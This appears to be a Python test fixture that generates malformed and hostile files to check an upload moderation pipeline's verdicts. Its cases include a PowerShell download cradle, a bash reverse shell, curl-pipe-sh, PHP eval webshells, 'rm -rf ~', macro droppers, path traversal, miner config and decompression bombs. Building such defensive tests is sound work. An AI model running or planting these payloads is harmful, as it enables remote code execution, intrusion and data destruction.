"""A corpus of malformed and hostile files, made at test time (no binaries committed).

Each case names what must happen to it: ``rejected`` (``RejectedInput`` with a
reason), or the strongest decision the media classifiers force: ``block``,
``review`` or ``pass``. Nothing may crash.
"""

from __future__ import annotations

import bz2
import io
import lzma
import struct
import tarfile
import zipfile
import zlib
from dataclasses import dataclass

import numpy as np
from PIL import Image

from modpipe.domain import Kind

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
PE = b"MZ" + b"\x90\x00" * 29 + b"\x40\x00\x00\x00" + b"PE\x00\x00" + b"\x4c\x01\x03\x00" + b"\x00" * 300
ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 9 + b"\x02\x00\x3e\x00" + b"\x00" * 200


@dataclass(frozen=True)
class Case:
    name: str
    kind: Kind
    data: bytes
    expect: str  # rejected | block | review | pass
    filename: str | None = None


def _png(im: Image.Image, **kw) -> bytes:
    buf = io.BytesIO()
    im.save(buf, "PNG", **kw)
    return buf.getvalue()


def _jpeg(im: Image.Image, **kw) -> bytes:
    buf = io.BytesIO()
    im.save(buf, "JPEG", **kw)
    return buf.getvalue()


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)


def _png_raw(w: int, h: int, idat: bytes, extra: bytes = b"", color: int = 2) -> bytes:
    ihdr = struct.pack(">IIBBBBB", w, h, 8, color, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + extra + _chunk(b"IDAT", idat) + _chunk(b"IEND", b"")


def _small_image(seed: int = 1, size=(64, 48)) -> Image.Image:
    rng = np.random.default_rng(seed)
    return Image.fromarray(rng.integers(0, 256, size=(size[1], size[0], 3), dtype=np.uint8))


def _gif(w: int, h: int, frames: int) -> bytes:
    """A GIF whose screen is w x h with ``frames`` 1x1 images (tiny file, huge claim)."""
    out = bytearray(b"GIF89a" + struct.pack("<HH", w, h) + b"\x80\x00\x00" + b"\x00\x00\x00\xff\xff\xff")
    for _ in range(frames):
        out += b"\x21\xf9\x04\x00\x0a\x00\x00\x00"  # graphic control, 0.1 s
        out += b"\x2c" + struct.pack("<HHHH", 0, 0, 1, 1) + b"\x00"
        out += b"\x02\x02\x44\x01\x00"  # LZW min code 2, one sub-block, end
    out += b"\x3b"
    return bytes(out)


def _jpeg_sof_lie(w: int, h: int) -> bytes:
    data = bytearray(_jpeg(_small_image(2, (16, 16))))
    i = data.find(b"\xff\xc0")
    data[i + 5 : i + 9] = struct.pack(">HH", h, w)
    return bytes(data)


def _zip(members: dict[str, bytes], compression=zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def _zip_many(n: int) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        for i in range(n):
            zf.writestr(f"f{i}.txt", b"")
    return buf.getvalue()


def _zip_overlap(copies: int) -> bytes:
    """Fifield-style bomb: many directory entries share one 1 MB compressed member."""
    base = _zip({"a.bin": b"\x00" * (1 << 20)})
    cd = base.find(b"PK\x01\x02")
    eocd = base.rfind(b"PK\x05\x06")
    entry = base[cd:eocd]
    new_cd = entry * copies
    end = bytearray(base[eocd:])
    struct.pack_into("<HHII", end, 8, copies, copies, len(new_cd), cd)
    return base[:cd] + new_cd + bytes(end)


def _zip_size_lie() -> bytes:
    """A small member whose directory entry claims 4 GB."""
    data = bytearray(_zip({"x.txt": b"hello" * 10}))
    cd = data.find(b"PK\x01\x02")
    struct.pack_into("<I", data, cd + 24, 0xFFFFFFF0)
    return bytes(data)


def _zip_encrypted() -> bytes:
    data = bytearray(_zip({"secret.exe": PE}))
    data[6] |= 0x01  # local header general purpose flag
    cd = data.find(b"PK\x01\x02")
    data[cd + 8] |= 0x01
    return bytes(data)


def _nested_zip(depth: int, inner: bytes, name: str = "x.txt") -> bytes:
    blob = _zip({name: inner})
    for i in range(depth):
        blob = _zip({f"level{i}.zip": blob}, zipfile.ZIP_STORED)
    return blob


def _tar(members: dict[str, bytes], mode: str = "w") -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode=mode) as tf:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def _tar_size_lie() -> bytes:
    info = tarfile.TarInfo("huge.bin")
    info.size = 50 * 1024**3
    return info.tobuf(format=tarfile.GNU_FORMAT) + b"\x00" * 1024


def _gzip_bomb(mb: int) -> bytes:
    c = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    block = b"\x00" * (1 << 20)
    return b"".join([c.compress(block) for _ in range(mb)] + [c.flush()])


def _bz2_bomb(mb: int) -> bytes:
    c = bz2.BZ2Compressor(9)
    block = b"\x00" * (1 << 20)
    return b"".join([c.compress(block) for _ in range(mb)] + [c.flush()])


def _xz_bomb(mb: int) -> bytes:
    c = lzma.LZMACompressor()
    block = b"\x00" * (1 << 20)
    return b"".join([c.compress(block) for _ in range(mb)] + [c.flush()])


def _docx(text: str, macro: bytes | None = None) -> bytes:
    members = {
        "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
        "word/document.xml": (
            '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
            'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>' + text + "</w:t></w:r></w:p></w:body></w:document>"
        ).encode(),
    }
    if macro is not None:
        members["word/vbaProject.bin"] = macro
    return _zip(members)


def _ole(with_vba: bool) -> bytes:
    body = bytearray(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504)
    body += "Root Entry".encode("utf-16-le") + b"\x00" * 100
    if with_vba:
        body += "_VBA_PROJECT".encode("utf-16-le") + b"\x00" * 20 + b"Attribute VB_Name = \"ThisDocument\"\n"
        body += b"Sub AutoOpen()\n Shell(\"cmd /c calc\")\nEnd Sub\n"
    body += b"\x00" * 1024
    return bytes(body)


def _video(seconds: float, size=(64, 64), fps: float = 10.0) -> bytes:
    import os
    import tempfile

    import cv2

    fd, path = tempfile.mkstemp(suffix=".mp4")
    os.close(fd)
    try:
        vw = cv2.VideoWriter(path, cv2.VideoWriter_fourcc(*"mp4v"), fps, size)
        frame = np.zeros((size[1], size[0], 3), np.uint8)
        for i in range(int(seconds * fps)):
            frame[:] = (i * 7) % 255
            vw.write(frame)
        vw.release()
        with open(path, "rb") as f:
            return f.read()
    finally:
        os.unlink(path)


def build_corpus() -> list[Case]:
    img = _small_image()
    png = _png(img)
    jpg = _jpeg(img)
    gif_ok = io.BytesIO()
    Image.new("P", (32, 32)).save(gif_ok, "GIF")
    webp = io.BytesIO()
    img.save(webp, "WEBP")
    small_clip = _video(2.0)
    rng = np.random.default_rng(5)
    rnd = rng.integers(0, 256, 4096, dtype=np.uint8).tobytes()
    bomb_1bit = io.BytesIO()
    Image.new("1", (8000, 8000)).save(bomb_1bit, "PNG")
    text_bomb = _png_raw(8, 8, zlib.compress(b"\x00" + b"\x00" * 24 * 8),
                         extra=_chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(b"A" * (64 << 20))))
    i16 = io.BytesIO()
    Image.fromarray((np.arange(64 * 64).reshape(64, 64) * 16).astype(np.uint16)).save(i16, "PNG")
    cmyk = _jpeg(img.convert("CMYK"))
    exif = Image.Exif()
    exif[0x0112] = 9  # no such orientation
    bad_orient = _jpeg(img, exif=exif.tobytes())
    exif_trunc = bytearray(_jpeg(img, exif=Image.Exif().tobytes() or b"Exif\x00\x00"))
    apng_lie = bytearray(_png(img))
    apng_lie = bytes(apng_lie[:33]) + _chunk(b"acTL", struct.pack(">II", 1000, 0)) + bytes(apng_lie[33:])
    ihdr_zero = _png_raw(0, 10, zlib.compress(b""))
    bad_crc = bytearray(png)
    k = bad_crc.find(b"IDAT")
    bad_crc[k + 10] ^= 0xFF
    bmp_lie = bytearray(b"BM" + struct.pack("<IHHI", 0, 0, 0, 54) + struct.pack("<IiiHHIIiiII", 40, 60000, 60000, 1, 24, 0, 0, 0, 0, 0, 0) + b"\x00" * 64)
    tiff_lie = bytearray(b"II*\x00" + struct.pack("<I", 8) + struct.pack("<H", 3)
                         + struct.pack("<HHII", 256, 4, 1, 100000) + struct.pack("<HHII", 257, 4, 1, 100000)
                         + struct.pack("<HHII", 258, 3, 1, 8) + b"\x00\x00\x00\x00")
    heic = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + rnd[:200]
    psd = b"8BPS\x00\x01" + b"\x00" * 6 + struct.pack(">HIIHH", 3, 30000, 30000, 8, 3) + rnd[:100]
    docm_dropper = _docx("季度报告", macro=b"Attribute VB_Name = \"NewMacros\"\nSub AutoOpen()\n Shell(\"powershell -w hidden\")\nEnd Sub\n")
    cases = [
        # --- images -----------------------------------------------------------
        Case("png_header_bomb", Kind.IMAGE, _png_raw(100_000, 100_000, zlib.compress(b"\x00" * 100)), "rejected"),
        Case("png_real_bomb_64mp", Kind.IMAGE, bomb_1bit.getvalue(), "rejected"),
        Case("jpeg_sof_bomb", Kind.IMAGE, _jpeg_sof_lie(65000, 65000), "rejected"),
        Case("gif_screen_bomb", Kind.IMAGE, _gif(65535, 65535, 1), "rejected"),
        Case("gif_animation_bomb", Kind.IMAGE, _gif(4000, 4000, 30), "rejected"),
        Case("gif_too_many_frames", Kind.IMAGE, _gif(2, 2, 2500), "rejected"),
        Case("gif_header_only", Kind.IMAGE, _gif(10, 10, 1)[:13], "rejected"),
        Case("png_truncated", Kind.IMAGE, png[: len(png) // 2], "rejected"),
        Case("jpeg_truncated", Kind.IMAGE, jpg[: int(len(jpg) * 0.6)], "rejected"),
        Case("webp_truncated", Kind.IMAGE, webp.getvalue()[: len(webp.getvalue()) // 2], "rejected"),
        Case("png_bad_crc", Kind.IMAGE, bytes(bad_crc), "rejected"),
        Case("png_zlib_garbage", Kind.IMAGE, _png_raw(16, 16, rnd[:300]), "rejected"),
        Case("png_zero_width", Kind.IMAGE, ihdr_zero, "rejected"),
        Case("png_text_chunk_bomb", Kind.IMAGE, text_bomb, "rejected"),
        Case("jpeg_soi_eoi_only", Kind.IMAGE, b"\xff\xd8\xff\xd9", "rejected"),
        Case("bmp_header_bomb", Kind.IMAGE, bytes(bmp_lie), "rejected"),
        Case("tiff_header_bomb", Kind.IMAGE, bytes(tiff_lie), "rejected"),
        Case("heic_unsupported", Kind.IMAGE, heic, "rejected"),
        Case("psd_not_allowed", Kind.IMAGE, psd, "rejected"),
        Case("ico_garbage", Kind.IMAGE, b"\x00\x00\x01\x00\x01\x00" + rnd[:64], "rejected"),
        Case("empty_image", Kind.IMAGE, b"", "rejected"),
        Case("random_bytes_as_image", Kind.IMAGE, rnd, "rejected"),
        Case("text_as_image", Kind.IMAGE, "这不是图片，是一段文字。".encode() * 20, "rejected"),
        Case("pdf_as_image", Kind.IMAGE, b"%PDF-1.7\n" + rnd[:500], "rejected"),
        Case("html_as_image", Kind.IMAGE, b"<html><body><script>alert(1)</script></body></html>" * 5, "rejected"),
        Case("exe_as_image", Kind.IMAGE, PE, "block", "photo.jpg"),
        Case("elf_as_image", Kind.IMAGE, ELF, "block", "photo.png"),
        Case("script_as_image", Kind.IMAGE, b"#!/bin/sh\nrm -rf ~\n", "block", "cat.gif"),
        Case("gif_php_polyglot", Kind.IMAGE, gif_ok.getvalue() + b"<?php eval($_POST['cmd']); ?>", "block"),
        Case("apng_frame_count_lie", Kind.IMAGE, apng_lie, "pass"),
        Case("jpeg_bad_exif_orientation", Kind.IMAGE, bad_orient, "pass"),
        Case("jpeg_empty_exif", Kind.IMAGE, bytes(exif_trunc), "pass"),
        Case("png_16bit_grey", Kind.IMAGE, i16.getvalue(), "pass"),
        Case("jpeg_cmyk", Kind.IMAGE, cmyk, "pass"),
        Case("png_1x1", Kind.IMAGE, _png(Image.new("RGB", (1, 1))), "pass"),
        Case("tiff_ifd_loop", Kind.IMAGE, _tiff_ifd_loop(), "pass"),
        # --- video ------------------------------------------------------------
        Case("video_truncated", Kind.VIDEO, small_clip[: len(small_clip) // 3], "rejected"),
        Case("video_ftyp_garbage", Kind.VIDEO, b"\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isomiso2" + rnd, "rejected"),
        Case("video_too_long", Kind.VIDEO, _video(620.0, (32, 32), fps=1.0), "rejected"),
        Case("video_too_large_frames", Kind.VIDEO, _video(0.2, (4096, 2304), fps=5.0), "rejected"),
        Case("empty_video", Kind.VIDEO, b"", "rejected"),
        Case("png_as_video", Kind.VIDEO, png, "rejected"),
        Case("exe_as_video", Kind.VIDEO, PE, "block", "clip.mp4"),
        Case("gif_as_video", Kind.VIDEO, gif_ok.getvalue(), "pass"),
        # --- files and archives ----------------------------------------------
        Case("eicar", Kind.FILE, EICAR, "block", "eicar.com"),
        Case("eicar_in_zip", Kind.FILE, _zip({"eicar.com": EICAR}), "block", "docs.zip"),
        Case("eicar_in_nested_zip", Kind.FILE, _nested_zip(1, EICAR, "eicar.com"), "block", "docs.zip"),
        Case("eicar_in_tar_gz", Kind.FILE, _tar({"x/eicar.com": EICAR}, "w:gz"), "block", "x.tgz"),
        Case("zip_ratio_bomb", Kind.FILE, _zip({"zeros.bin": b"\x00" * (24 << 20)}), "block"),
        Case("zip_too_many_members", Kind.FILE, _zip_many(1100), "block"),
        Case("zip_overlapping_bomb", Kind.FILE, _zip_overlap(300), "block"),
        Case("zip_size_lie", Kind.FILE, _zip_size_lie(), "block"),
        Case("zip_nested_too_deep", Kind.FILE, _nested_zip(4, b"hello"), "block"),
        Case("zip_truncated", Kind.FILE, _zip({"a.txt": b"hello world" * 100})[:40], "rejected"),
        Case("zip_encrypted", Kind.FILE, _zip_encrypted(), "review"),
        Case("zip_with_exe", Kind.FILE, _zip({"setup.exe": PE, "readme.txt": b"run setup"}), "block"),
        Case("zip_path_traversal", Kind.FILE, _zip({"../../etc/cron.d/x": b"* * * * * root id"}), "review"),
        Case("gzip_bomb", Kind.FILE, _gzip_bomb(40), "block"),
        Case("bzip2_bomb", Kind.FILE, _bz2_bomb(40), "block"),
        Case("xz_bomb", Kind.FILE, _xz_bomb(40), "block"),
        Case("tar_size_lie", Kind.FILE, _tar_size_lie(), "block"),
        Case("tar_gz_with_elf", Kind.FILE, _tar({"bin/tool": ELF}, "w:gz"), "block"),
        Case("docm_autoopen_dropper", Kind.FILE, docm_dropper, "block", "report.docm"),
        Case("ole_doc_with_macro", Kind.FILE, _ole(True), "block", "invoice.doc"),
        Case("powershell_cradle", Kind.FILE,
             b"$c = New-Object Net.WebClient\nIEX $c.DownloadString('http://198.51.100.7/p.ps1')\n", "block", "a.ps1"),
        Case("bash_reverse_shell", Kind.FILE, b"#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n", "block"),
        Case("curl_pipe_sh", Kind.FILE, b"echo installing\ncurl -fsSL http://203.0.113.9/i.sh | sh\n", "block"),
        Case("php_webshell", Kind.FILE, b"<?php @eval($_POST['pass']); ?>", "block", "x.php"),
        Case("miner_config", Kind.FILE, b'{"pools":[{"url":"stratum+tcp://pool.example:3333","user":"x"}]}', "block"),
        Case("python_crawler", Kind.FILE, (
            b"import requests\nfrom bs4 import BeautifulSoup\nheaders = {'User-Agent': 'Mozilla/5.0'}\n"
            b"for p in range(1000):\n    r = requests.get(f'https://shop.example/list?p={p}', headers=headers)\n"
            b"    soup = BeautifulSoup(r.text, 'html.parser')\n"), "review", "spider.py"),
        Case("pe_upload", Kind.FILE, PE, "block", "tool.exe"),
        Case("elf_upload", Kind.FILE, ELF, "block", "tool"),
        Case("sevenzip_unreadable", Kind.FILE, b"7z\xbc\xaf\x27\x1c\x00\x04" + rnd[:400], "review"),
        Case("rar_unreadable", Kind.FILE, b"Rar!\x1a\x07\x01\x00" + rnd[:400], "review"),
        Case("docx_benign", Kind.FILE, _docx("志愿者招募通知：本周六上午九点在社区中心集合。"), "pass", "notice.docx"),
        Case("text_gb18030", Kind.FILE, "善款使用说明：全部用于助学项目。".encode("gb18030"), "pass", "note.txt"),
        Case("text_utf16", Kind.FILE, "活动总结".encode("utf-16"), "pass", "summary.txt"),
        Case("random_binary_file", Kind.FILE, rnd, "pass", "data.bin"),
        Case("nul_bytes_file", Kind.FILE, b"\x00" * 5000, "pass", "zeros.dat"),
        Case("empty_file", Kind.FILE, b"", "rejected", "empty.txt"),
    ]
    return cases


def _tiff_ifd_loop() -> bytes:
    """A valid 4x4 TIFF whose next-IFD pointer points back at itself (an infinite page list)."""
    buf = io.BytesIO()
    Image.new("L", (4, 4), 128).save(buf, "TIFF")
    data = bytearray(buf.getvalue())
    ifd = struct.unpack("<I", data[4:8])[0]
    n = struct.unpack("<H", data[ifd : ifd + 2])[0]
    struct.pack_into("<I", data, ifd + 2 + 12 * n, ifd)
    return bytes(data)
